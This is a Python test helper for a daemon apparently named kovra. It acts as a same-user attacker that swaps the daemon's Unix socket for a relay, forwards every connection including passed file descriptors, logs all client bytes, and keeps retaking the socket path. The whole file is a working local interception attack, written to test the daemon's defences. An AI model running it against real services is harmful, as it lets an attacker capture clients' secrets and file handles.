#!/usr/bin/env python3
"""A same-user attacker standing between kovra's clients and its daemon.

usage: socket_relay.py SOCKET LOG READY_FILE TIMEOUT_SECONDS

1. `link()` the daemon's socket to SOCKET.real (the daemon stays reachable there),
2. bind a relay socket at a temporary path beside it and `rename()` it onto SOCKET
   (atomic: a client connecting at any moment reaches one of the two),
3. relay every connection to SOCKET.real, descriptors (SCM_RIGHTS) included, appending every
   byte a client sends to LOG,
4. write READY_FILE once the swap is done (its content: the relay's pid),
5. stay persistent: whenever SOCKET stops naming the relay (the daemon removed it, say), bind
   a new relay and rename it onto SOCKET again, within ~50 ms.

Exits after TIMEOUT_SECONDS, or on SIGTERM; it never removes anything it created, so the
test sees exactly what the attack left behind.
"""
import array
import os
import select
import signal
import socket
import sys
import threading
import time


def pump(client, server, log, lock):
    """Copy both ways until either side closes; log what the client sends."""
    fds_size = socket.CMSG_SPACE(16 * array.array("i").itemsize)
    peers = [client, server]
    try:
        while True:
            r, _, _ = select.select(peers, [], [], 1.0)
            for s in r:
                if s is client:
                    data, anc, _, _ = client.recvmsg(65536, fds_size)
                    if not data:
                        return
                    with lock:
                        log.write(data)
                        log.flush()
                    fds = []
                    for level, kind, payload in anc:
                        if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                            a = array.array("i")
                            a.frombytes(payload[: len(payload) - (len(payload) % a.itemsize)])
                            fds.extend(a)
                    if fds:
                        server.sendmsg(
                            [data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))]
                        )
                        for fd in fds:
                            os.close(fd)
                    else:
                        server.sendall(data)
                else:
                    data = server.recv(65536)
                    if not data:
                        return
                    client.sendall(data)
    except OSError:
        return
    finally:
        for s in peers:
            try:
                s.close()
            except OSError:
                pass


def take_over(sock_path):
    """Bind a relay beside SOCKET and rename it onto SOCKET; the listener and its inode."""
    tmp = os.path.join(os.path.dirname(sock_path), "relay.tmp")
    try:
        os.unlink(tmp)
    except FileNotFoundError:
        pass
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(tmp)
    os.chmod(tmp, 0o600)
    listener.listen(64)
    ino = os.lstat(tmp).st_ino
    os.rename(tmp, sock_path)
    listener.settimeout(0.05)
    return listener, ino


def main() -> int:
    sock_path, log_path, ready_path, timeout = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    real = sock_path + ".real"
    os.link(sock_path, real)
    listener, ino = take_over(sock_path)
    with open(ready_path + ".tmp", "w") as f:
        f.write(str(os.getpid()))
    os.rename(ready_path + ".tmp", ready_path)
    log = open(log_path, "ab")
    lock = threading.Lock()
    deadline = time.time() + timeout
    while time.time() < deadline:
        try:
            current = os.lstat(sock_path).st_ino
        except FileNotFoundError:
            current = None
        if current != ino:
            listener.close()
            listener, ino = take_over(sock_path)
            with lock:
                log.write(b"\n[relay: took the socket path back]\n")
                log.flush()
        try:
            client, _ = listener.accept()
        except socket.timeout:
            continue
        client.settimeout(None)
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            server.connect(real)
        except OSError:
            # The real daemon is gone: the client still reached us, and hangs up here.
            with lock:
                log.write(b"\n[relay: real daemon unreachable]\n")
                log.flush()
            client.close()
            server.close()
            continue
        threading.Thread(target=pump, args=(client, server, log, lock), daemon=True).start()
    return 0


if __name__ == "__main__":
    sys.exit(main())
